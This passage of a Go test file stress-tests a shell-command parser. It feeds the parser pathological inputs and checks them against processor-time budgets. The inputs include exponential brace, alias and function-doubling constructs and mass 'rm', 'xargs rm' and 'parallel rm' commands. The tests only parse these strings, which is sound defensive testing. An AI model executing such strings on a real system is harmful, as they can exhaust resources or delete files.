		"braces":          "echo " + strings.Repeat("{a,b}", 10000),
		"nested braces":   "echo " + strings.Repeat("{a,", 10000) + strings.Repeat("}", 10000),
		"pipes":           strings.Repeat("a|", 30000) + "a",
		"lists":           strings.Repeat("a&&", 20000) + "a",
		"statements":      strings.Repeat("a;", 30000) + "a",
		"parameters":      "echo " + strings.Repeat("${a:-", 10000),
		"arithmetic":      "echo $((" + strings.Repeat("(", 30000),
		"heredocs":        strings.Repeat("cat <<E\n$(x)\nE\n", 4000),
		"echoes":          "echo $(" + strings.Repeat("echo aaaaaaaaaa;", 4000) + ")",
		"doubling":        "X=aaaaaaaaaaaaaaaa;" + strings.Repeat("X=$X$X;", 200) + "echo $X",
		"doubling calls":  "f0() { x }; " + doubling(60) + "f60",
		"aliases":         "alias a='a a'; a a a",
		"alternatives":    strings.Repeat("[ x ] && X=$X$Y; Y=$X$Y; ", 500) + "$X$Y$X",
		"eval":            strings.Repeat("eval ", 10000) + "x",
		"wrappers":        strings.Repeat("env ", 15000) + "x",
		"subscripts":      "x='a[$((x))+$((x))]'; echo $((x))",
		"words":           "rm " + strings.Repeat("a ", 30000),
		"long word":       "echo " + strings.Repeat("'a'b", 16000),
		"stars":           "X=" + strings.Repeat("a", 3000) + "; echo ${X#*a*a*a*a*b}",
		"cases":           strings.Repeat("case a in a) ", 4900),
		"tests":           "[[ " + strings.Repeat("( ", 30000),
		"loops":           strings.Repeat("for i in a b; do ", 3500) + "x" + strings.Repeat("; done", 100),
		"quotes":          "echo " + strings.Repeat(`\"`, 30000),
		"backquotes":      "echo " + strings.Repeat("`", 30000),
		"xargs":           "echo " + strings.Repeat("a ", 20000) + "| xargs rm",
		"parallel":        "parallel rm ::: " + strings.Repeat("a ", 20000),
		"separators":      strings.Repeat("; ", 30000),
		"refused pieces":  ") " + strings.Repeat("a; ", 20000),
		"unending quotes": strings.Repeat("a '", 20001),
	}
}

func doubling(n int) string {
	var b strings.Builder
	for i := 1; i <= n; i++ {
		fmt.Fprintf(&b, "f%d() { f%d; f%d }; ", i, i-1, i-1)
	}
	return b.String()
}

// TestHostileTextsAreBounded holds a budget of processor time, which a busy machine
// does not change much. Measured on an idle one: 5 to 50 ms each.
func TestHostileTextsAreBounded(t *testing.T) {
	limit := 400 * time.Millisecond
	if testing.Short() {
		limit = 10 * time.Second // for the race detector, which makes everything slow
	}
	for name, text := range hostileTexts() {
		for _, d := range []Dialect{Zsh, Bash, POSIX} {
			start := processorTime(t)
			r := Read(text, testOptions(d))
			if took := processorTime(t) - start; took > limit {
				t.Errorf("%s in %s took %v", name, shellName(d), took)
			}
			if len(r.Commands) == 0 && len(r.Opaque) == 0 {
				t.Errorf("%s in %s: nothing is said", name, shellName(d))
			}
			r.Lines()
		}
	}
}

func processorTime(t *testing.T) time.Duration {
	var usage syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &usage); err != nil {
		t.Fatal(err)
	}
	return time.Duration(usage.Utime.Nano() + usage.Stime.Nano())
}

func TestBudgetsAreOpaque(t *testing.T) {
	long := strings.Repeat("true; ", 20000) + "rm x"
	r := Read("rm first; "+long, testOptions(Zsh))
	if !strings.Contains(fmt.Sprint(r.Opaque), "too long") {
		t.Errorf("a long text: opaque %v", len(r.Opaque))
	}
	if len(r.Commands) == 0 || r.Commands[0].Program != "rm" {
		t.Error("the beginning of a long text is not read")
	}
	if r := Read(strings.Repeat("(", 3000), testOptions(Bash)); !strings.Contains(fmt.Sprint(r.Opaque), "too deeply") {
		t.Errorf("deep brackets: opaque %v", r.Opaque)
	}
	o := testOptions(Zsh)
	o.MaxSteps = 10
	if r := Read(strings.Repeat("a; ", 30), o); !strings.Contains(fmt.Sprint(r.Opaque), "too much") {
		t.Errorf("many steps: opaque %v", r.Opaque)
	}
}

// TestShellsAgree runs commands that print their arguments in the real shells and
// compares with the words that the reading finds.
func TestShellsAgree(t *testing.T) {
	commands := []string{
		`echo a'b'"c" d\ e`, `X=1; echo $X ${X}2 "$X"`, `echo {a,b}c {1..3}`, `echo $'a\tb\x41\101'`, `echo "a\"b\$c\\d"`,
		`set -- p q; echo $2 $1`, `X=/a/b.c; echo ${X%/*} ${X##*/} ${X#/a}`, `echo ${NO:-d} ${NO:+e}f`, `echo $(echo in) $(printf '%s-' a b)`,
		`X=abc; Y=$X$X; echo $Y`, `f() { echo "$1"; }; f z`, `echo ~root`, `for i in a b; do :; done; echo end`, `eval 'echo ev'`, `echo a#b`, `X='p q'; echo "$X"`,
	}
	for name, d := range map[string]Dialect{"zsh": Zsh, "bash": Bash} {
		path, err := exec.LookPath(name)
		if err != nil {
			t.Logf("skipped: %s is not installed", name)
			continue
		}
		flags := map[string][]string{"zsh": {"-f", "-c"}, "bash": {"--noprofile", "--norc", "-c"}}[name]
		for _, command := range commands {
			out, err := exec.Command(path, append(slices.Clone(flags), command)...).Output()
			if err != nil {
				t.Fatalf("%s %q: %v", name, command, err)
			}
			r := Read(command, testOptions(d))
			var last Command
			for _, c := range r.Commands {
				if c.Program == "echo" {
					last = c
				}
			}
			var words []string
			for _, w := range last.Words[1:] {
				words = append(words, w.Value)
			}
			if got := strings.Join(words, " ") + "\n"; got != string(out) {
				t.Errorf("%s %q: read %q, printed %q", name, command, got, out)
			}
		}
	}
}

func BenchmarkRead(b *testing.B) {
	text := strings.Repeat("if [ -f \"$x\" ]; then cp \"$x\" \"out/${x%.c}.o\" && echo $(basename $x) > log; fi\n", 800)
	texts := map[string]string{"usual": text}
	for _, name := range []string{"lists", "pipes", "words", "wrappers", "cases", "substitutions"} {
		texts[name] = hostileTexts()[name]
	}
	for name, text := range texts {
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				Read(text, testOptions(Zsh))
			}
		})
	}
}
